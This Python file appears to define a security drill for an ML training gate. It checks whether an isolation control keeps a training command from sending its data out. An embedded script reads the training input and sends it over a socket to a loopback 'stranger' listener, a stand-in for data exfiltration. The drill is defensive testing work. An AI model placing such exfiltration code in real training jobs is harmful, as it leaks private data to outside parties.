"""DR-TRN-01: a training command sends its data to a stranger on the network."""

import socket
import threading
from collections.abc import Generator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent

from tidegate.app.train import train_model
from tidegate.core.stage import Stage
from tidegate.drills.arena import Arena
from tidegate.drills.arms import goal, judged, passed
from tidegate.drills.commands import Program
from tidegate.drills.training import TRAIN, honest_rows
from tidegate.gates.command.produce import Produced
from tidegate.gates.drill import Arm, Drill, End

_SEND = dedent(
    """\
    import os, socket
    from pathlib import Path

    said = Path(os.environ["TIDEGATE_OUTPUT"]) / "attempt.txt"
    stolen = (Path(os.environ["TIDEGATE_INPUTS"]) / "train").read_bytes()
    try:
        place = "127.0.0.1", int(os.environ["TIDEGATE_PARAM_PORT"])
        with socket.create_connection(place, timeout=5) as line:
            line.sendall(stolen)
        said.write_text("sent")
    except OSError as error:
        said.write_text(f"{type(error).__name__}")
    """
)


@dataclass
class _Stranger:
    """Listens on the loopback and keeps what arrives."""

    port: int = 0
    got: bytearray = field(default_factory=bytearray)


@contextmanager
def _stranger() -> Generator[_Stranger]:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        stranger, closed = _Stranger(server.getsockname()[1]), threading.Event()
        thread = threading.Thread(target=_listen, args=(server, stranger, closed), daemon=True)
        thread.start()
        try:
            yield stranger
        finally:
            closed.set()
            thread.join()


def _listen(server: socket.socket, stranger: _Stranger, closed: threading.Event) -> None:
    while True:
        try:
            line, _ = server.accept()
        except TimeoutError:
            if closed.is_set():  # only then: what is on its way still counts
                return
            continue
        with line:
            while piece := line.recv(65_536):
                stranger.got += piece


def _attack(folder: Path, *, gate_on: bool) -> Arm:
    table, output = honest_rows(folder / "train.csv"), folder / "out"
    with _stranger() as stranger:
        port = str(stranger.port)
        if not gate_on:
            program = Program.write(folder / "code", _SEND + TRAIN)
            program.run_plainly({"train": table}, output, port=port)
            produced = None
        else:
            produced = _trained(folder, table, _SEND + TRAIN, port=port)
    arrived = bytes(stranger.got)
    if produced is None:
        detail = f"{len(arrived)} bytes of training data arrived at a stranger's"
        return goal(reached=arrived == table.read_bytes(), detail=detail)
    return _held(produced, output, arrived)


def _held(produced: Produced, output: Path, arrived: bytes) -> Arm:
    """Judge what came of the attempt: the training goes on, and nothing leaves."""
    if produced.outputs is None:
        return judged(produced.order)
    said = (output / "attempt.txt").read_text("utf-8")
    if arrived or said == "sent":
        return Arm(End.MISSED, f"{len(arrived)} bytes arrived, the command says: {said}")
    check = next(check for check in produced.outputs.checks if check.id == "isolation")
    detail = f"nothing arrived: {said} in the command, at isolation tier {check.facts['tier']}"
    return Arm(End.STOPPED, detail, frozenset({check.control}))


def _benign(folder: Path) -> Arm:
    produced = _trained(folder, honest_rows(folder / "train.csv"), TRAIN)
    return passed(produced.decision)


def _trained(folder: Path, table: Path, text: str, **given: str) -> Produced:
    arena = Arena.make(folder)
    arena.admitted("train", table)
    program = Program.write(folder / "code", text)
    request = program.request({"train": table}, folder / "out", **given)
    return train_model(arena.workspace, request)


DRILL = Drill(
    id="DR-TRN-01",
    stage=Stage.TRAIN,
    control="TG-TRN-02",
    title="A training command that sends its data away",
    attack=_attack,
    benign=_benign,
    atlas=("AML.T0025",),
    missions=("M22", "M62", "M69"),
)
